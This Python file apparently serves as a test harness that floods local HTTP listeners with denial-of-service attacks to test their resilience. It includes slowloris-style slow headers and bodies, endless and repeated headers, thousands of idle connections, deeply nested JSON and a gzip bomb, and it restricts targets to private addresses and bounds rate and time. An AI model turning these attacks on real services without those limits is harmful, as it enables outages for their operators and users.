"""Attacks on whatever listens: ``python door_attacks.py ATTACK SECONDS URL...``; as the least urgent process.

With AUTHORIZATION its requests have that header. Each is bounded in rate and time, goes to addresses of this machine
only, and ends by itself. When it has begun on every URL it prints one line.
"""

import asyncio
import gzip
import os
import resource
import subprocess
import sys
from collections.abc import Awaitable, Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from ipaddress import ip_address
from urllib.parse import urlsplit

SILENT_CONNECTIONS = int(os.environ.get("SILENT_CONNECTIONS", "9000"))
_AUTHORIZATION = os.environ.get("AUTHORIZATION", "")
SLOW_CONNECTIONS = 64
NESTED_BYTES = 16 * 1000 * 1000
NESTED_AT_ONCE = 6
_PART_BYTES = 256 * 1024
#: Of one attack on one URL: 12.5 MB/s.
_PARTS_A_SECOND = 50
#: Within so many each attacker has done what it does at least once.
_ONCE_SECONDS = 40.0
_BOMB = gzip.compress(b"[" + b"0," * 5_000_000 + b"0]")


@contextmanager
def attacking(
    name: str, seconds: float, urls: Sequence[str], **variables: str
) -> "Iterator[list[subprocess.Popen[bytes]]]":
    """Each URL by a process of its own, once all have begun: one alone may not have as many connections."""
    command = [sys.executable, __file__, name, str(seconds)]
    environment = {**os.environ, **variables}
    attackers = [subprocess.Popen([*command, url], stdout=subprocess.PIPE, env=environment) for url in urls]
    try:
        for attacker in attackers:
            assert attacker.stdout is not None
            with attacker.stdout:
                assert attacker.stdout.readline() == b"begun\n"
        yield attackers
    finally:
        for attacker in attackers:
            attacker.kill()
            attacker.wait()


class Target:
    """Opens connections to one URL, and writes to them at a bounded rate."""

    def __init__(self, url: str) -> None:
        parts = urlsplit(url)
        assert parts.hostname is not None and parts.port is not None
        assert ip_address(parts.hostname).is_private, "this machine, and its containers"
        self.host, self.port = parts.hostname, parts.port
        self.path = parts.path or "/"
        self._last = 0.0

    async def open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.host, self.port)

    def head(self, length: int | None, *fields: str) -> bytes:
        method = "PUT" if "/runners/" in self.path else "POST"
        lines = [f"{method} {self.path} HTTP/1.1", "Host: 127.0.0.1", "Content-Type: application/json", *fields]
        lines += [f"Authorization: {_AUTHORIZATION}"] if _AUTHORIZATION else []
        lines += [] if length is None else [f"Content-Length: {length}", "", ""]
        return "\r\n".join(lines).encode()

    async def turn(self) -> None:
        """Waits for this URL's next turn to send a part."""
        loop = asyncio.get_running_loop()
        self._last = max(self._last + 1 / _PARTS_A_SECOND, loop.time())
        await asyncio.sleep(self._last - loop.time())


async def endless_header(target: Target) -> None:
    await _endlessly(target, b"\r\nFill: ", b"x" * _PART_BYTES)


async def many_headers(target: Target) -> None:
    await _endlessly(target, b"\r\n", b"F: x\r\n" * (_PART_BYTES // 6))


async def _endlessly(target: Target, start: bytes, part: bytes) -> None:
    _, writer = await target.open()
    try:
        writer.write(target.head(None) + start)
        while True:
            await target.turn()
            writer.write(part)
            await writer.drain()
    finally:
        writer.transport.abort()


async def slow_heads(target: Target) -> None:
    await _slowly(target, target.head(None) + b"\r\nFill: ")


async def slow_bodies(target: Target) -> None:
    await _slowly(target, target.head(1_000_000))


async def _slowly(target: Target, start: bytes) -> None:
    reader, writer = await target.open()
    try:
        writer.write(start)
        while not reader.at_eof():
            writer.write(b"[")
            await writer.drain()
            with suppress(TimeoutError):
                async with asyncio.timeout(1.0):
                    await reader.read(65_536)
    finally:
        writer.transport.abort()


async def silent(target: Target) -> None:
    reader, writer = await target.open()
    try:
        await reader.read()
        await asyncio.sleep(1.0)
    finally:
        writer.transport.abort()


async def nested(target: Target) -> None:
    """Members that are cheap to send and dear to keep; as fast as they are taken."""
    part = b"[]," * (_PART_BYTES // 3)
    count = NESTED_BYTES // len(part)
    reader, writer = await target.open()
    try:
        writer.write(target.head(len(part) * count + 4) + b"[")
        for _ in range(count):
            writer.write(part)
            await writer.drain()
        writer.write(b"[]]")
        await reader.read(65_536)
    finally:
        writer.transport.abort()


async def gzip_bomb(target: Target) -> None:
    reader, writer = await target.open()
    try:
        await target.turn()
        writer.write(target.head(len(_BOMB), "Content-Encoding: gzip", "Connection: close") + _BOMB)
        await reader.read()
    finally:
        writer.transport.abort()


Attack = Callable[[Target], Awaitable[None]]
#: With how many at the same time.
ATTACKS: dict[str, tuple[Attack, int]] = {
    "endless-header": (endless_header, 4),
    "many-headers": (many_headers, 4),
    "slow-heads": (slow_heads, SLOW_CONNECTIONS),
    "slow-bodies": (slow_bodies, SLOW_CONNECTIONS),
    "silent": (silent, SILENT_CONNECTIONS),
    "nested": (nested, NESTED_AT_ONCE),
    "gzip-bomb": (gzip_bomb, 4),
}


async def _repeat(attack: Attack, target: Target, has_ended: asyncio.Event) -> None:
    """Whoever is cut comes again, but not at once."""
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            await attack(target)
        has_ended.set()
        await asyncio.sleep(0.05)


async def _main(name: str, seconds: float, urls: list[str]) -> None:
    attack, count = ATTACKS[name]
    attackers, ended = [], []
    for target in map(Target, urls):
        for number in range(count):
            ended.append(asyncio.Event())
            attackers.append(asyncio.create_task(_repeat(attack, target, ended[-1])))
            # A listener's backlog is not the thing to be tried.
            if number % 100 == 99:
                await asyncio.sleep(0.02)
    print("begun", flush=True)
    await asyncio.sleep(seconds)
    if attack in (nested, gzip_bomb):
        # These are harmless until they have been sent.
        async with asyncio.timeout(_ONCE_SECONDS):
            await asyncio.gather(*(each.wait() for each in ended))
    for attacker in attackers:
        attacker.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)


if __name__ == "__main__":
    os.nice(19)
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(_main(sys.argv[1], float(sys.argv[2]), sys.argv[3:]))
